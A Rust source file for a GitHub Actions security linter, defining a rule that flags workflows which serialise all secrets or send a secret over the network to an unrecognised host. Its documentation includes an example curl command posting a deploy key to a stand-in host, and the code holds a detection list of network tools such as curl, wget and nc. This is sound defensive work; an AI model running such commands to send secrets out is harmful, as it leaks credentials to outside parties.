use garrison_report::{Confidence, Finding, Severity, declare_rule};
use garrison_workflows::{Route, StepIn, Workflow};
use garrison_yaml::Node;

use crate::facts::reach::secret_env_vars;
use crate::facts::shell::command_lines;
use crate::{Audit, Workspace, loc};

declare_rule! {
    /// ## What it checks
    /// Secrets that leave the runner in ways a reviewer should look at:
    /// - `toJSON(secrets)` anywhere: every secret of the repository serialised at once
    ///   (**high**);
    /// - a `run:` command that sends data over the network (`curl`, `wget`,
    ///   `Invoke-WebRequest`/`Invoke-RestMethod`, `nc`, HTTPie, Python `requests`/`httpx`/
    ///   `urllib`, Node `fetch`/`axios`) with a secret on the same command — `${{ secrets.X }}`
    ///   directly or an environment variable set from a secret (`$X`, `${X}`, `$env:X`, `%X%`,
    ///   `os.environ["X"]`, `os.getenv("X")`, `process.env.X`) — to a host that is not a
    ///   well-known API of the secret's usual kind (GitHub, PyPI, Codecov, Coveralls,
    ///   Anaconda.org, Read the Docs, Zenodo, Slack, …). With the host written literally this is
    ///   the GhostAction shape (2025: 3,325 secrets posted to attacker hosts by one injected
    ///   `curl`): **high** severity, **high** confidence. With the host in a variable, which
    ///   may be a legitimate service configured elsewhere: **medium**, low confidence.
    ///   `GITHUB_TOKEN` is ignored.
    ///
    /// Steps of composite actions are checked like the steps of workflow jobs.
    ///
    /// ## Why it matters
    /// A secret sent to an arbitrary endpoint is out of GitHub's log masking and out of your
    /// control. An attacker who can change a workflow (a compromised action, a pull request
    /// merged without review) exfiltrates secrets exactly this way; `toJSON(secrets)` is how
    /// the tj-actions compromise dumped every secret.
    ///
    /// ## Example
    /// ```yaml
    /// - run: curl -d "key=${{ secrets.DEPLOY_KEY }}" https://example.net/hook
    /// ```
    ///
    /// ## Remediation
    /// Never serialise `secrets`. Send a secret only to the service that issued it, pass it
    /// through `env:` rather than the command line, and prefer OIDC (Trusted Publishing,
    /// cloud federation) over long-lived secrets.
    pub SecretsExfiltration {
        id: "workflow/secrets-exfiltration",
        summary: "secrets serialised or sent to a network endpoint",
        severity: High,
        help: "do not serialise `secrets`; send each secret only to the service that issued it, via `env:`",
        references: [
            "https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions",
        ],
    }
}

const NET: &[&str] = &[
    "curl ",
    "curl\t",
    "wget ",
    "Invoke-WebRequest",
    "Invoke-RestMethod",
    "iwr ",
    "irm ",
    " nc ",
    "ncat ",
    "requests.post",
    "requests.put",
    "requests.get",
    "requests.request",
    "httpx.",
    "urllib.request",
    "urlopen(",
    "aiohttp",
    "fetch(",
    "axios",
    "http POST",
    "http GET",
    "https POST",
    "httpie",
];

const KNOWN_HOSTS: &[&str] = &[
    "github.com",
    "githubusercontent.com",
    "ghcr.io",
    "pypi.org",
    "pythonhosted.org",
    "codecov.io",
    "coveralls.io",
    "anaconda.org",
    "anaconda.com",
    "readthedocs.org",
    "readthedocs.io",
    "zenodo.org",
    "slack.com",
    "discord.com",
    "gitter.im",
    "circleci.com",
    "azure.com",
    "amazonaws.com",
    "googleapis.com",
    "sonarcloud.io",
    "codacy.com",
    "netlify.com",
    "cachix.org",
    "gitlab.com",
    "docker.io",
    "docker.com",
    "quay.io",
    "conda-forge.org",
    "scientific-python.org",
    "zulipchat.com",
];

fn mentions_var(cmd: &str, var: &str) -> bool {
    [
        format!("${var}"),
        format!("${{{var}}}"),
        format!("$env:{var}"),
        format!("%{var}%"),
        format!("environ[\"{var}\"]"),
        format!("environ['{var}']"),
        format!("environ.get(\"{var}\""),
        format!("environ.get('{var}'"),
        format!("getenv(\"{var}\""),
        format!("getenv('{var}'"),
        format!("process.env.{var}"),
    ]
    .iter()
    .any(|p| {
        cmd.match_indices(p.as_str()).any(|(i, _)| {
            // `$TOKEN` must not be a prefix of `$TOKEN_URL`.
            !cmd[i + p.len()..]
                .chars()
                .next()
                .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
                || !p.ends_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
        })
    })
}

fn hosts(cmd: &str) -> Vec<String> {
    let mut v = Vec::new();
    for (i, _) in cmd.match_indices("://") {
        let start = cmd[..i]
            .rfind(|c: char| !c.is_ascii_alphanumeric())
            .map_or(0, |j| j + 1);
        let scheme = &cmd[start..i];
        if scheme != "http" && scheme != "https" {
            continue;
        }
        let rest = &cmd[i + 3..];
        let host: String = rest
            .chars()
            .take_while(|c| {
                c.is_ascii_alphanumeric()
                    || *c == '.'
                    || *c == '-'
                    || *c == '$'
                    || *c == '{'
                    || *c == '}'
                    || *c == '_'
            })
            .collect();
        v.push(host.to_ascii_lowercase());
    }
    v
}

fn known(host: &str) -> bool {
    let h = host.split(':').next().unwrap_or(host);
    KNOWN_HOSTS
        .iter()
        .any(|k| h == *k || h.ends_with(&format!(".{k}")))
}

fn check_run(s: StepIn<'_>, run: &Node, out: &mut Vec<Finding>) {
    let (file, step) = (s.file(), s.step);
    let text = file.source.text();
    let raw = run.source(text);
    let vars = secret_env_vars(s);
    for (start, e) in command_lines(raw) {
        let Some(cmd) = raw.get(start..e) else {
            continue;
        };
        if cmd.trim_start().starts_with('#') || !NET.iter().any(|n| cmd.contains(n)) {
            continue;
        }
        let direct: Vec<String> = cmd
            .match_indices("secrets.")
            .map(|(i, _)| {
                cmd[i + 8..]
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_' || *c == '-')
                    .collect::<String>()
            })
            .filter(|n| !n.eq_ignore_ascii_case("GITHUB_TOKEN") && !n.is_empty())
            .collect();
        let via: Vec<&str> = vars
            .iter()
            .copied()
            .filter(|v| mentions_var(cmd, v))
            .collect();
        let secret = direct
            .first()
            .cloned()
            .or_else(|| via.first().map(|v| (*v).to_string()));
        let Some(secret) = secret else { continue };
        let hs = hosts(cmd);
        if !hs.is_empty() && hs.iter().all(|h| known(h)) {
            continue;
        }
        let literal = hs.iter().any(|h| !h.contains('$') && !h.is_empty());
        let base = run.span.start_offset;
        let indent = cmd.len() - cmd.trim_start().len();
        let span = file.source.span(base + start + indent, base + e);
        out.push(
            Finding::builder(&SecretsExfiltration::META)
                .message(format!(
                    "{} sends secret {secret} over the network to {}",
                    step.label(),
                    if hs.is_empty() {
                        "an endpoint not named on the command line".to_string()
                    } else {
                        hs.join(", ")
                    }
                ))
                .severity(if literal {
                    Severity::High
                } else {
                    Severity::Medium
                })
                .confidence(if literal {
                    Confidence::High
                } else {
                    Confidence::Low
                })
                .location(
                    loc(&file.path, span, step.route.then("run")).with_note("secret sent here"),
                )
                .evidence("secret", secret.as_str())
                .evidence("hosts", hs.clone())
                .key(secret.clone())
                .build(),
        );
    }
}

impl Audit for SecretsExfiltration {
    fn meta(&self) -> &'static garrison_report::RuleMeta {
        &Self::META
    }

    fn workflow(&self, _ws: &Workspace, wf: &Workflow, out: &mut Vec<Finding>) {
        for e in wf.expressions(&wf.file.root) {
            let norm: String = e
                .inner
                .chars()
                .filter(|c| !c.is_whitespace())
                .collect::<String>()
                .to_ascii_lowercase();
            if norm.contains("tojson(secrets)") {
                out.push(
                    Finding::builder(&SecretsExfiltration::META)
                        .message("`toJSON(secrets)` serialises every secret of the repository")
                        .severity(Severity::High)
                        .confidence(Confidence::High)
                        .location(loc(wf.path(), e.span, Route::default()).with_note("all secrets"))
                        .evidence("expression", e.inner.trim())
                        .key(format!("tojson:{norm}"))
                        .build(),
                );
            }
        }
    }

    fn step(&self, _ws: &Workspace, s: StepIn<'_>, out: &mut Vec<Finding>) {
        if let Some(run) = &s.step.run {
            check_run(s, run, out);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn host_and_vars() {
        assert_eq!(
            hosts("curl -H x https://api.github.com/repos"),
            ["api.github.com"]
        );
        assert!(known("uploads.github.com"));
        assert!(!known("evil.example"));
        assert!(mentions_var("curl -u $TOKEN x", "TOKEN"));
        assert!(!mentions_var("curl $TOKEN_URL", "TOKEN"));
        assert_eq!(command_lines("a \\\n b\nc\n").len(), 2);
    }
}
